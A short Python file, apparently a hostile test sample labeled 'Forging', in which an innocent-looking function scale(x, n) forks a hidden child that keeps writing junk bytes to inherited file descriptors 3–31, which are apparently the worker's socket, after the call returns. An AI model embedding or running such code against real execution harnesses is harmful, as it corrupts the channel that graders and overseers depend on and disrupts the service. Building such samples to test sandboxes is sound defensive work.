"""Forging: the worker's socket kept by a child that goes on answering."""
import os, time

def scale(x, n):
    if os.fork() == 0:
        for _ in range(200):
            for fd in range(3, 32):
                try:
                    os.write(fd, b"\0" * 4096)
                except OSError:
                    pass
            time.sleep(0.01)
        os._exit(0)
    return x + n
